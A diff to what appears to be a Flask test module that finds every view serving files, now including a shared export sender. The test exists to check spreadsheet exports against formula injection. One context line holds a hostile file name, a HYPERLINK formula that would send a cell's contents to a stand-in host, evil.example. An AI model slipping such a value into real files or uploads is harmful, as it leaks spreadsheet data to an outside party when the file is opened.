@@ -34,13 +34,16 @@ FILE_NAME = "=HYPERLINK(evil.example?A1) 名册.csv"  # a roster file's name is 
 # Served files that are not spreadsheets the app writes: an attachment goes back exactly as uploaded;
 # an old public link only moves (308) to the congress's own report file.
 NOT_EXPORTS = {"attachments.download", "public_moved.report_file"}
+# A view sends a file itself (send_file) or through a shared sender (send_export_file, the export
+# pages' and the API's finished export job).
+SENDS = re.compile(r"\bsend_(export_)?file\(")
 
 
 def sends_files(app) -> set[str]:
     endpoints = set()
     for rule in app.url_map.iter_rules():
         view = app.view_functions[rule.endpoint]
-        if "send_file(" in inspect.getsource(view) or rule.rule.endswith((".xlsx", ".csv")):
+        if SENDS.search(inspect.getsource(view)) or rule.rule.endswith((".xlsx", ".csv")):
             endpoints.add(rule.endpoint)
     return endpoints
 
